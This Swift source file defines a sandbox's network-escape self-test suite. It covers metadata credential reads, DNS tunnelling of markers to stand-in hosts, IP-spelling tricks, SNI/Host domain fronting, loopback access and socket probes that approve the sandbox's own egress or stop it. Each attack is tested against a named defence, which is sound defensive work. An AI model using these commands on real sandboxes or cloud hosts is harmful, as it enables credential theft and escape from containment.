import Glibc

/// The network attacks: every way out of the sandbox's network but the proxy's allow list,
/// aimed at stand-ins in the lab (NetworkLab.swift). Each run sends a fresh marker; the verdict
/// is whether the far side received it at the target the attack aims at.
enum NetworkAttacks {
    static var all: [Attack] {
        [
            directIP, literalThroughProxy, privateViaDNS, metadataAWSv1, metadataAWSv2, metadataAzure, metadataGCP, ipv4Mapped,
            decimalAddress, octalAddress, hexAddress, dnsLongLabel, dnsOtherTypes, dnsUnlistedName, dnsDirectResolver, dnsOverHTTPS,
            icmp, rawSocket, udp, ipv6, sniMismatch, hostMismatch, silentFronting, httpDisguise, connectUnlistedPort, webSocketUnlisted, redirectUnlisted,
            hostLoopback, abstractSocket, selfApproval, execSocketStop,
        ]
    }

    typealias Lab = NetworkLab
    static let tool = "python3 /workspace/.selftest/nettool.py"

    /// Where a control runs: the same script in a sandbox on the lab's own network (no capture,
    /// no proxy), in the proxy sandbox with the attack's target listed, or on the host in the lab.
    enum Control: Sendable { case hostNetwork, open, labHost }

    static func fresh(_ environment: SelftestEnvironment) -> String { environment.marker("canary").lowercased() }

    /// Where a marker must arrive for the attack to count: an address (any port, `ADDR:`) or an
    /// exact place of the far side's log (`udp:53`, `icmp`, `127.0.0.1:9090`).
    struct Place: Sendable {
        let accepts: [String]
        func matches(_ place: String) -> Bool { accepts.contains { $0.hasSuffix(":") ? place.hasPrefix($0) : place == $0 } }
    }

    static func isAt(_ addresses: String...) -> Place { Place(accepts: addresses.map { $0 + ":" }) }
    static func exactly(_ place: String) -> Place { Place(accepts: [place]) }

    /// An attack whose `script(tool, marker)` runs in the strict sandbox and, as its control, where
    /// `control` says; it succeeds when `observed(marker)` reaches a place `at` accepts.
    static func attack(
        _ id: String, _ description: String, defence: String, control: Control, _ controlText: String,
        at: Place, observedPrefix: String = "",
        script: @escaping @Sendable (String, String) -> String
    ) -> Attack {
        Attack(
            id: id, category: .network, description: description, defence: defence, control: controlText,
            runControl: { (environment) throws(SelftestFailure) in
                let lab = try Lab.get(environment)
                let marker = fresh(environment)
                let output: ProcessOutput
                switch control {
                case .hostNetwork: output = try lab.exec(try lab.hostNetworkSandbox(), script(tool, marker))
                case .open: output = try lab.exec(try lab.openSandbox(), script(tool, marker))
                case .labHost: output = try lab.host(script("python3 " + Shell.quote(lab.hostTool), marker))
                }
                return lab.observe(observedPrefix + marker, "control", output, at: at.matches)
            },
            runAttack: { (environment) throws(SelftestFailure) in
                let lab = try Lab.get(environment)
                let marker = fresh(environment)
                let output = try lab.exec(try lab.strictSandbox(), script(tool, marker))
                return lab.observe(observedPrefix + marker, "sandbox", output, at: at.matches)
            })
    }

    static let openControl = "the same requests from a proxy sandbox whose allow list names the target get through to it"
    static let hostControl = "the same script in a sandbox on the lab's network (network: host, no capture) reaches the stand-in"

    // MARK: - Addresses

    static let directIP = attack(
        "net.direct-ip", "connect straight to an unlisted address (no proxy, no DNS)",
        defence: "capture: every TCP flow goes to the relay, which refuses an address the DNS stub never handed out (ip-literal)",
        control: .hostNetwork, hostControl, at: isAt(Lab.unlisted)
    ) { tool, m in
        "\(tool) send \(Lab.unlisted) 8080 \(m); \(tool) http \(Lab.unlisted) 8080 /\(m) \(Lab.unlisted)"
    }

    static let literalThroughProxy = attack(
        "net.ip-literal-proxy", "ask the proxy for an unlisted address literal (absolute-form request and CONNECT)",
        defence: "proxy policy: address literals are refused unless listed", control: .open,
        "the same requests from a proxy sandbox that lists the address get through", at: isAt(Lab.unlisted)
    ) { tool, m in
        "\(tool) forward http://\(Lab.unlisted):8080/\(m); \(tool) connect \(Lab.unlisted):8080 \(m); curl -s -m5 http://\(Lab.unlisted):8080/\(m)"
    }

    static let privateViaDNS = attack(
        "net.private-via-dns", "reach a private address through a listed name that resolves to it (DNS rebinding's result)",
        defence: "address policy on every dialled address: private blocks refused unless allow_private lists them", control: .open,
        "a proxy sandbox whose allow_private lists the block reaches it", at: isAt(Lab.unlisted)
    ) { _, m in
        "curl -s -m5 http://private.test:8080/\(m); curl -s -m5 --noproxy '*' http://private.test:8080/\(m)"
    }

    static func metadataScript(_ path: String, _ headers: [String], before: String = "") -> String {
        let h = headers.map { "-H " + Shell.quote($0) }.joined(separator: " ")
        return """
            \(before)
            curl -s -m5 \(h) http://meta.test\(path)
            curl -s -m5 --noproxy '*' \(h) http://meta.test\(path)
            curl -s -m5 \(h) http://\(Lab.metadata)\(path)
            curl -s -m5 --noproxy '*' \(h) http://\(Lab.metadata)\(path)
            """
    }

    static let metadataDefence = "address policy: the metadata address (169.254.169.254) refused, literal or through a listed name"
    static let metadataControl = "a proxy sandbox whose allow_private lists 169.254.169.254 reaches the stand-in"

    static let metadataAWSv1 = attack(
        "net.metadata-aws-v1", "read cloud credentials from the metadata service, AWS IMDSv1 (a plain GET)", defence: metadataDefence,
        control: .open, metadataControl, at: isAt(Lab.metadata)
    ) { _, m in metadataScript("/latest/meta-data/iam/security-credentials/\(m)", []) }

    static let metadataAWSv2 = attack(
        "net.metadata-aws-v2", "AWS IMDSv2: PUT for a session token, then GET with it", defence: metadataDefence, control: .open,
        metadataControl, at: isAt(Lab.metadata)
    ) { _, m in
        let put = """
            t=$(curl -s -m5 -X PUT -H 'X-aws-ec2-metadata-token-ttl-seconds: 21600' http://meta.test/latest/api/token)
            [ -n "$t" ] || t=$(curl -s -m5 --noproxy '*' -X PUT -H 'X-aws-ec2-metadata-token-ttl-seconds: 21600' http://meta.test/latest/api/token)
            """
        return metadataScript("/latest/meta-data/\(m)", ["X-aws-ec2-metadata-token: token-for-v2"], before: put)
    }

    static let metadataAzure = attack(
        "net.metadata-azure", "Azure instance metadata with its Metadata: true header", defence: metadataDefence, control: .open,
        metadataControl, at: isAt(Lab.metadata)
    ) { _, m in metadataScript("/metadata/instance/\(m)?api-version=2021-02-01", ["Metadata: true"]) }

    static let metadataGCP = attack(
        "net.metadata-gcp", "GCP metadata with its Metadata-Flavor: Google header", defence: metadataDefence, control: .open,
        metadataControl, at: isAt(Lab.metadata)
    ) { _, m in metadataScript("/computeMetadata/v1/instance/\(m)", ["Metadata-Flavor: Google"]) }

    /// Direct, absolute-form and CONNECT attempts at `spelling` (an address written another way).
    static func spelled(_ tool: String, _ spelling: String, _ m: String) -> String {
        let authority = spelling.contains(":") ? "[\(spelling)]" : spelling
        return """
            \(tool) send \(spelling) 8080 \(m)
            \(tool) forward http://\(authority):8080/\(m)
            \(tool) connect \(authority):8080 \(m)
            curl -s -m5 --noproxy '*' http://\(authority):8080/\(m)
            """
    }

    static let spellingDefence =
        "one spelling: the proxy refuses every address form but dotted-quad (and literals unless listed); capture refuses addresses never handed out"

    static let ipv4Mapped = attack(
        "net.ipv4-mapped", "reach an unlisted IPv4 address written as IPv4-mapped IPv6 (::ffff:10.213.0.9)", defence: spellingDefence,
        control: .hostNetwork, hostControl, at: isAt(Lab.unlisted)
    ) { tool, m in spelled(tool, "::ffff:\(Lab.unlisted)", m) }

    static let decimalAddress = attack(
        "net.decimal-address", "reach an unlisted address written as one decimal number (181731337)", defence: spellingDefence,
        control: .hostNetwork, hostControl, at: isAt(Lab.unlisted)
    ) { tool, m in spelled(tool, "181731337", m) }

    static let octalAddress = attack(
        "net.octal-address", "reach an unlisted address written in octal (012.0325.0.011)", defence: spellingDefence, control: .hostNetwork,
        hostControl, at: isAt(Lab.unlisted)
    ) { tool, m in spelled(tool, "012.0325.0.011", m) }

    static let hexAddress = attack(
        "net.hex-address", "reach an unlisted address written in hex (0xa.0xd5.0.0x9, 0x0ad50009)", defence: spellingDefence,
        control: .hostNetwork, hostControl, at: isAt(Lab.unlisted)
    ) { tool, m in spelled(tool, "0xa.0xd5.0.0x9", m) + "\n" + spelled(tool, "0x0ad50009", m) }

    // MARK: - DNS

    static let dnsControl = "in a sandbox on the lab's network, the same queries reach the upstream resolver stand-in"
    static let upstream = exactly("udp:53")

    static let dnsLongLabel = attack(
        "net.dns-long-label", "tunnel data out in a long label under an allowed wildcard (63 characters, *.tun.test)",
        defence: "DNS stub: labels and entropy below a wildcard bounded (dns-bound), nothing past it reaches the host's resolver",
        control: .hostNetwork, dnsControl, at: upstream
    ) { tool, m in
        let label = String((m + "-" + String(repeating: "0123456789abcdef", count: 4)).prefix(63))
        return "DNS_EXTRA=127.0.0.1 \(tool) dns \(label).tun.test 1 28"
    }

    static let dnsOtherTypes = attack(
        "net.dns-other-types", "tunnel through TXT, MX, CNAME, NULL, SRV and ANY queries under an allowed wildcard",
        defence: "DNS stub: only A/AAAA (and empty HTTPS/SVCB) answered; other types refused without a lookup", control: .hostNetwork,
        dnsControl, at: upstream
    ) { tool, m in "DNS_EXTRA=127.0.0.1 \(tool) dns \(m).tun.test 16 15 5 10 33 255" }

    static let dnsUnlistedName = attack(
        "net.dns-unlisted-name", "tunnel data out in a query for an unlisted domain",
        defence: "DNS stub: unlisted names answered NXDOMAIN without a lookup", control: .hostNetwork, dnsControl, at: upstream
    ) { tool, m in "DNS_EXTRA=127.0.0.1 \(tool) dns \(m).exfil-unlisted.example 1 28; getent hosts \(m).exfil-unlisted.example" }

    static let dnsDirectResolver = attack(
        "net.dns-direct-resolver", "query a public resolver's address directly (UDP 1.1.1.1:53), around resolv.conf",
        defence: "capture: all UDP to port 53 goes to the stub, all other UDP to the sink", control: .hostNetwork,
        "in a sandbox on the lab's network, the query reaches the resolver stand-in at 1.1.1.1", at: upstream
    ) { tool, m in "DNS_EXTRA=\(Lab.resolver) \(tool) dns \(m).example.com 1 16" }

    static let dnsOverHTTPS = attack(
        "net.dns-over-https", "DNS-over-HTTPS to a public resolver's address (1.1.1.1:443), direct, through CONNECT and by name",
        defence: "capture refuses addresses never handed out; proxy refuses unlisted literals and names", control: .hostNetwork, hostControl,
        at: isAt(Lab.resolver)
    ) { tool, m in
        """
        \(tool) http \(Lab.resolver) 443 /dns-query?dns=\(m) dns.google
        \(tool) tls \(Lab.resolver) 443 \(m).dns.google
        \(tool) connect \(Lab.resolver):443 \(m)
        \(tool) connect dns.google:443 \(m)
        curl -s -m5 https://dns.google/dns-query?dns=\(m)
        """
    }

    // MARK: - Other protocols

    static let icmp = attack(
        "net.icmp", "send data out in ICMP echo requests (ping socket and raw socket)",
        defence: "capture: the sandbox's output chain drops ICMP", control: .labHost,
        "on the host in the lab, the same echo requests reach the stand-in", at: exactly("icmp")
    ) { tool, m in "\(tool) icmp \(Lab.unlisted) \(m); ping -c1 -W1 -p 6d61726b \(Lab.unlisted)" }

    static let rawSocket = attack(
        "net.raw-socket", "send a hand-made UDP datagram through a raw IP socket (and open a packet socket)",
        defence: "capture: the output chain drops what is not loopback or redirected", control: .labHost,
        "on the host in the lab, the raw datagram reaches the stand-in", at: exactly("udp:9999")
    ) { tool, m in "\(tool) raw \(Lab.unlisted) \(m)" }

    static let udp = attack(
        "net.udp", "send data out in a UDP datagram to an unlisted address", defence: "capture: UDP other than DNS goes to the sink",
        control: .hostNetwork, hostControl, at: exactly("udp:9999")
    ) { tool, m in "\(tool) udp \(Lab.unlisted) 9999 \(m)" }

    static let ipv6 = attack(
        "net.ipv6", "reach an IPv6 address directly and through the proxy",
        defence: "IPv6 disabled in the sandbox; the proxy refuses unlisted literals", control: .hostNetwork, hostControl, at: isAt(Lab.ipv6)
    ) { tool, m in spelled(tool, Lab.ipv6, m) + "\ncurl -s -m5 -6 --noproxy '*' http://[\(Lab.ipv6)]:8080/\(m)" }

    // MARK: - Proxy tricks

    static let sniMismatch = attack(
        "net.sni-mismatch", "CONNECT to an allowed host and send a ClientHello naming another (domain fronting by SNI)",
        defence: "tunnel gate: the ClientHello's SNI must be the tunnel's host (sni-mismatch); captured TLS: the SNI must be the name handed out",
        control: .hostNetwork, "in a sandbox on the lab's network, the same ClientHello reaches the stand-in", at: isAt(Lab.allowed)
    ) { tool, m in
        """
        \(tool) connect-tls allowed.test:8443 \(m).unlisted.test
        \(tool) tls \(Lab.allowed) 8443 \(m).unlisted.test
        a=$(getent hosts allowed.test | cut -d' ' -f1); [ -n "$a" ] && \(tool) tls "$a" 8443 \(m).unlisted.test
        """
    }

    static let hostMismatch = attack(
        "net.host-mismatch", "a request whose Host names another host than its tunnel or URL (fronting by Host, both ways)",
        defence: "proxy: every request's Host must be its tunnel's or target's host (host-mismatch, 403)", control: .hostNetwork,
        "in a sandbox on the lab's network, the same requests reach the stand-ins", at: isAt(Lab.allowed, Lab.unlistedName, Lab.unlisted)
    ) { tool, m in
        """
        \(tool) connect allowed.test:8080 'GET /\(m) HTTP/1.1\\r\\nHost: unlisted.test'
        \(tool) forward-host http://unlisted.test:8080/\(m) allowed.test:8080
        \(tool) forward-host http://allowed.test:8080/\(m) unlisted.test:8080
        a=$(getent hosts allowed.test | cut -d' ' -f1); [ -n "$a" ] && \(tool) http "$a" 8080 /\(m) unlisted.test
        \(tool) http \(Lab.unlisted) 8080 /\(m) allowed.test
        """
    }

    static let silentFronting = attack(
        "net.silent-fronting",
        "on an allowed host's explicitly listed port (where opaque traffic may pass), say nothing until the sniff timeout, then front by Host or SNI",
        defence:
            "tunnel gate and captured flows: a silent client gets the server's first bytes, but its own first bytes are judged whenever they come",
        control: .hostNetwork, "in a sandbox on the lab's network, the same late requests reach the stand-in", at: isAt(Lab.allowed)
    ) { tool, m in
        let request = "'GET /\(m) HTTP/1.1\\r\\nHost: unlisted.test'"
        return """
            SILENT=4 \(tool) connect allowed.test:8080 \(request)
            SILENT=4 \(tool) connect-tls allowed.test:8443 \(m).unlisted.test
            SILENT=4 \(tool) socks allowed.test 8080 \(request)
            a=$(getent hosts allowed.test | cut -d' ' -f1); [ -n "$a" ] || a=\(Lab.allowed)
            SILENT=1 \(tool) send "$a" 8080 \(request)
            SILENT=1 \(tool) tls "$a" 8443 \(m).unlisted.test
            """
    }

    static let httpDisguise = attack(
        "net.http-disguise",
        "on an explicitly listed port, send what servers read as a request to another host but a strict reader calls opaque: empty lines first, a lowercase method, runs of spaces, HTTP/2 prior knowledge, a ClientHello over 64 KiB",
        defence: "first-bytes reader: anything a server could read as a request line or ClientHello is judged as one (refused when malformed), never opaque",
        control: .hostNetwork, "in a sandbox on the lab's network, the same bytes reach the stand-in", at: isAt(Lab.allowed)
    ) { tool, m in
        let disguises = [
            "'\\r\\nGET /\(m) HTTP/1.1\\r\\nHost: unlisted.test'", "'get /\(m) HTTP/1.1\\r\\nHost: unlisted.test'",
            "'GET  /\(m)  HTTP/1.1\\r\\nHost: unlisted.test'", "'PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n\(m)'",
        ]
        return """
            a=$(getent hosts allowed.test | cut -d' ' -f1); [ -n "$a" ] || a=\(Lab.allowed)
            for d in \(disguises.joined(separator: " ")); do
              \(tool) connect allowed.test:8080 "$d"
              \(tool) send "$a" 8080 "$d"
            done
            \(tool) connect-tls-big allowed.test:8443 \(m).unlisted.test
            \(tool) tls-big "$a" 8443 \(m).unlisted.test
            """
    }

    static let connectUnlistedPort = attack(
        "net.connect-unlisted-port", "CONNECT (and plain and captured HTTP) to an allowed host on a port it is not allowed",
        defence: "proxy policy: a domain entry allows only its port (80/443 without one)", control: .open,
        "a proxy sandbox that lists allowed.test:9090 reaches it", at: exactly(Lab.allowed + ":9090")
    ) { tool, m in
        "\(tool) connect allowed.test:9090 \(m); curl -s -m5 http://allowed.test:9090/\(m); curl -s -m5 --noproxy '*' http://allowed.test:9090/\(m)"
    }

    static let webSocketUnlisted = attack(
        "net.websocket-unlisted", "a WebSocket upgrade to an unlisted host (proxied and captured)",
        defence: "proxy policy decides the upgrade request like any other", control: .open, openControl, at: isAt(Lab.unlistedName)
    ) { tool, m in
        let headers = "-H 'Connection: Upgrade' -H 'Upgrade: websocket' -H 'Sec-WebSocket-Version: 13' -H 'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ=='"
        return """
            \(tool) forward http://unlisted.test:8080/ws/\(m) 'Connection: Upgrade' 'Upgrade: websocket' 'Sec-WebSocket-Version: 13' 'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ=='
            curl -s -m3 \(headers) http://unlisted.test:8080/ws/\(m)
            curl -s -m3 --noproxy '*' \(headers) http://unlisted.test:8080/ws/\(m)
            """
    }

    static let redirectUnlisted = attack(
        "net.redirect-unlisted", "an allowed host redirects to an unlisted one and the client follows",
        defence: "proxy policy decides every request, the followed one too", control: .open, openControl, at: isAt(Lab.unlistedName),
        observedPrefix: "landed-"
    ) { _, m in
        "curl -s -m5 -L http://allowed.test:8080/redirect/\(m); curl -s -m5 -L --noproxy '*' http://allowed.test:8080/redirect/\(m)"
    }

    static let hostLoopback = attack(
        "net.host-loopback", "reach a service on the host's loopback: 127.0.0.1 and localhost through the proxy, the gateway and stand-in addresses",
        defence: "proxy policy: literals and unlisted names refused, ports checked; capture: the sandbox's loopback is its own",
        control: .hostNetwork, "in a sandbox on the lab's network, 127.0.0.1:9090 is the host's service", at: exactly(Lab.allowed + ":9090")
    ) { tool, m in
        """
        \(tool) send 127.0.0.1 9090 \(m)
        \(tool) forward http://127.0.0.1:9090/\(m); \(tool) connect 127.0.0.1:9090 \(m)
        \(tool) forward http://localhost:9090/\(m); \(tool) connect localhost:9090 \(m)
        for a in 10.200.0.1 10.200.0.2 198.18.0.1 198.18.0.2; do \(tool) send $a 9090 \(m); done
        a=$(getent hosts allowed.test | cut -d' ' -f1); [ -n "$a" ] && \(tool) send "$a" 9090 \(m)
        curl -s -m5 --noproxy '*' http://localhost:9090/\(m)
        """
    }

    static let abstractSocket = attack(
        "net.abstract-unix-socket", "connect to a host process's abstract unix socket (@cordon-selftest-abstract)",
        defence: "network namespace (abstract names are per namespace) and Landlock's abstract-socket scope", control: .labHost,
        "on the host in the lab, the same client connects to it", at: exactly("abstract")
    ) { tool, m in "\(tool) abstract cordon-selftest-abstract \(m)" }

    static let selfApproval = Attack(
        id: "net.self-approval", category: .network,
        description:
            "approve its own egress: reach cordon's control, exec and port sockets (every visible socket, their host paths, through /proc/*/root and /proc/*/cwd), ask them to allow an unlisted name as `cordon allow` does, then use it",
        defence: "the supervisor's sockets are outside the sandbox's mount and network namespaces; approvals come only from the host",
        control: "on the host, the same request sent to the sandbox's control socket (as `cordon allow` sends it) lets the sandbox's request through",
        runControl: { (environment) throws(SelftestFailure) in
            let lab = try Lab.get(environment)
            let name = try lab.strictSandbox()
            let marker = fresh(environment)
            let socket = Shell.quote(environment.cordonState + "/sandboxes/" + name + "/control.sock")
            let allowed = try environment.host("VIA_PROC=0 python3 - ctl-approve.test \(socket) <<'EOF' 2>&1\n\(controlSocketProbe)\nEOF")
            let output = try lab.exec(name, "curl -s -m5 http://ctl-approve.test/\(marker)")
            return lab.observe(marker, "control (\(allowed.stdout.split(separator: "\n").first ?? ""))", output) { $0 == Lab.allowed + ":80" }
        },
        runAttack: { (environment) throws(SelftestFailure) in
            let lab = try Lab.get(environment)
            let name = try lab.strictSandbox()
            let marker = fresh(environment)
            let ask = "{\"command\":\"allow\",\"name\":\"\(name)\",\"domain\":\"self-approve.test\",\"always\":true}\\nallow self-approve.test\\n"
            // The sandbox's own sockets by their host paths (what `cordon allow` connects to).
            let directory = environment.cordonState + "/sandboxes/" + name
            let sockets = ["control.sock", "exec.sock", "port.sock"].map { Shell.quote(directory + "/" + $0) }.joined(separator: " ")
            let script = """
                \(tool) unix-all '\(ask)'
                python3 - self-approve.test \(sockets) <<'EOF' 2>&1
                \(controlSocketProbe)
                EOF
                ls -la /run /var/run /tmp /dev/shm 2>&1
                curl -s -m5 http://self-approve.test/\(marker); curl -s -m5 --noproxy '*' http://self-approve.test/\(marker)
                """
            return lab.observe(marker, "sandbox", try lab.exec(name, script)) { $0 == Lab.allowed + ":80" }
        })

    /// `cordon down`'s own request on the exec socket, in hex: a frame (u32 length, little-endian)
    /// around the one-byte `stop` (ExecWire).
    static let stopFrame = "0100000003"

    static let execSocketStop = Attack(
        id: "net.exec-socket-stop", category: .network,
        description:
            "stop its own sandbox through cordon's exec socket: `cordon down`'s real request (ExecWire stop) to every unix socket it can see, the socket's host path, and through /proc/*/root and /proc/*/cwd",
        defence: "the supervisor's sockets are outside the sandbox's mount and network namespaces (and, run as root, refuse another uid)",
        control: "on the host, the same frame sent to a sandbox's exec.sock stops it",
        runControl: { (environment) throws(SelftestFailure) in
            let name = "selftest-stop-control"
            try startStopTarget(environment, name)
            defer { environment.remove(name) }
            let supervisor = try ProcessAttacks.supervisor(environment, name)
            // The attack's own probe, told to try only the socket's host path (on the host it must
            // not go looking for sockets).
            let socket = environment.cordonState + "/sandboxes/" + name + "/exec.sock"
            let tool = try environment.workspace(name) + "/.selftest/nettool.py"
            let sent = try environment.host("ONLY_GIVEN=1 python3 \(Shell.quote(tool)) unix-send \(stopFrame) \(Shell.quote(socket)) 2>&1")
            return stoppedObservation(supervisor, "host probe of \(socket)", sent)
        },
        runAttack: { (environment) throws(SelftestFailure) in
            let name = "selftest-stop"
            try startStopTarget(environment, name)
            defer { environment.remove(name) }
            let supervisor = try ProcessAttacks.supervisor(environment, name)
            let directory = environment.cordonState + "/sandboxes/" + name
            let sockets = ["exec.sock", "control.sock", "port.sock"].map { Shell.quote(directory + "/" + $0) }.joined(separator: " ")
            let output = try environment.exec(name, "\(tool) unix-send \(stopFrame) \(sockets) 2>&1")
            return stoppedObservation(supervisor, "sandbox", output)
        })

    /// Starts sandbox `name` (up, no network) with the client tool in its workspace; the workspace.
    @discardableResult
    static func startStopTarget(_ environment: SelftestEnvironment, _ name: String) throws(SelftestFailure) -> String {
        let workspace = try environment.workspace(name)
        try environment.write(workspace + "/.selftest/nettool.py", NetworkPython.client)
        let profile = try environment.profile(name, "name: \(name)\nnetwork: none\n")
        try environment.up(name, profile: profile, workspace: workspace)
        return workspace
    }

    /// Whether the sandbox whose supervisor is `supervisor` stopped within ten seconds (a stop
    /// takes about 1.9 s on an idle host here, more under load: a CI run's control saw it still
    /// running at two).
    static func stoppedObservation(_ supervisor: Int32, _ what: String, _ output: ProcessOutput) -> Observation {
        for _ in 0..<100 {
            if kill(supervisor, 0) != 0 { return .succeeded("\(what): the sandbox stopped (its supervisor \(supervisor) is gone)") }
            usleep(100_000)
        }
        return .failed("\(what): the sandbox still runs (\(output.summary))")
    }

    /// Connects to each socket path given (from its directory), as it is and through every
    /// `/proc/PID/root` and `/proc/PID/cwd` (unless `VIA_PROC=0`), and sends `cordon allow`'s own
    /// request (the control socket's wire format, one JSON line) to approve the domain given
    /// first, always and once; prints each answer.
    static let controlSocketProbe = #"""
        import glob, os, socket, sys
        asks = [b'{"op":"answer","host":"%s","answer":"%s"}\n' % (sys.argv[1].encode(), a) for a in (b"always", b"once")]
        roots = glob.glob("/proc/[0-9]*/root") + glob.glob("/proc/[0-9]*/cwd") if os.environ.get("VIA_PROC") != "0" else []
        for path in sys.argv[2:]:
            for target in [path] + [r + path for r in roots] + [r + "/" + os.path.basename(path) for r in roots]:
                for ask in asks:
                    try:
                        # From its directory: a path too long for sun_path still connects.
                        os.chdir(os.path.dirname(target))
                        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
                        s.settimeout(2)
                        s.connect(os.path.basename(target))
                        s.sendall(ask)
                        print("control", target, "answered", s.recv(4096))
                        s.close()
                    except OSError as e:
                        print("control", target, "failed:", e)
        """#
}
